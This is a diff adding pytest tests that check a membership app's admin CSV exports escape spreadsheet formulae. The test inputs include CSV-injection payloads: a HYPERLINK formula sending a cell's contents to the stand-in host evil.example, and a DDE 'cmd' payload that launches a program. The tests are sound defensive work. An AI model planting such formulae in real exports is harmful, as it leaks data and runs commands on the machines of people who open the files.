@@ -3,7 +3,9 @@ export of companies and people, the renew and publish actions, membership period
 not overlap, the standing filter, and the account admin, where organizers give roles
 without raising anyone's rights and the program committee cannot open memberships."""
 
+import csv
 import datetime
+import io
 from decimal import Decimal
 
 import pytest
@@ -344,6 +346,78 @@ def test_people_export_names_company_by_slug():
     exported = MemberResource().export().csv
 
     assert exported.splitlines()[1] == "ada@orbit.example,Ada,Lovelace,orbit,CTO,yes,no"
+
+
+def export_csv(client, model: str) -> list[list[str]]:
+    """Download the model's CSV through the admin's export page, every column chosen."""
+    form = client.get(reverse(f"admin:members_{model}_export")).context["form"]
+    columns = {name: "on" for name, field in form.fields.items() if field.initial is True}
+    response = client.post(
+        reverse(f"admin:members_{model}_export"), {"format": "0", "resource": "0", **columns}
+    )
+    assert response["Content-Type"].startswith("text/csv")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+FORMULAE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "==1+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_people_export_escapes_formulae_in_every_cell(organizer_client):
+    for number, formula in enumerate(FORMULAE):
+        MemberFactory(
+            user__email=f"p{number}@orbit.example",
+            user__first_name=formula,
+            job_title=formula,
+            company__slug=f"orbit-{number}",
+        )
+
+    rows = export_csv(organizer_client, "member")
+
+    by_email = {row[0]: row for row in rows[1:]}
+    assert [
+        (by_email[f"p{n}@orbit.example"][1], by_email[f"p{n}@orbit.example"][4])
+        for n in range(len(FORMULAE))
+    ] == [("'" + formula, "'" + formula) for formula in FORMULAE]
+    assert [
+        cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}
+    ] == []
+
+
+def test_company_export_escapes_formulae(organizer_client):
+    MemberCompanyFactory(slug="orbit", name="=1+1", description="@cmd", membership=None)
+
+    rows = export_csv(organizer_client, "membercompany")
+
+    assert (rows[1][1], rows[1][5]) == ("'=1+1", "'@cmd")
+
+
+def test_people_export_with_formulae_imports_back_unchanged(organizer_client):
+    MemberFactory(
+        user__email="ada@orbit.example",
+        user__first_name="'quoted",
+        job_title='=HYPERLINK("https://evil.example","x")',
+        company__slug="orbit",
+    )
+    rows = export_csv(organizer_client, "member")
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(rows)
+
+    response = import_csv(organizer_client, "member", buffer.getvalue().encode())
+
+    member = Member.objects.select_related("user").get()
+    assert response.context["result"].totals["skip"] == 1
+    assert (member.user.first_name, member.job_title) == (
+        "'quoted",
+        '=HYPERLINK("https://evil.example","x")',
+    )
 
 
 def test_company_export_page_opens(organizer_client):
